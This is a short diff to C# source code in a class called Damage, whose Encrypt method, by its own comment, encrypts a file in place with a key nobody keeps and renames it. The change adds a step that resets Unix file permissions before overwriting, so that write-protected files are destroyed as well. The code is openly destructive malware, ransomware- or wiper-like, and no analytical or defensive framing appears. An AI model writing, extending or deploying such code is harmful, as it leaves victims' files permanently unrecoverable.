@@ -57,6 +57,12 @@ internal static class Damage
     /// <summary>Encrypts a file in its place with a key that nobody keeps, and renames it.</summary>
     public static void Encrypt(string path)
     {
+        if (!OperatingSystem.IsWindows())
+        {
+            // Whoever owns a file is not kept from it by its mode.
+            File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserWrite);
+        }
+
         using (var aes = Aes.Create())
         using (var file = new FileStream(path, FileMode.Open, FileAccess.ReadWrite))
         {
